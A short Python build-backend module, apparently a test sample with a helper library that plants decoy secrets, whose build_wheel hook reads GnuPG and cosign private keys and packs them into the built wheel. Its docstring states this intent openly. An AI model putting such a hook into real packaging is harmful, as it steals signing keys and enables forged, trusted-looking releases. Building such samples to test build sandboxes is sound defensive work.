"""Takes the private keys of GnuPG and cosign.

They sign what this build hands over, so a build has the best of reasons to look for them.
"""

import contextlib

import kit

PLACES = ("gnupg", "cosign")


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("read"):
        for place in PLACES:
            with contextlib.suppress(OSError):
                with open(kit.plant(place).path, "rb") as secret:
                    loot[f"{place}.bin"] = secret.read()
    return kit.wheel(wheel_directory, loot)
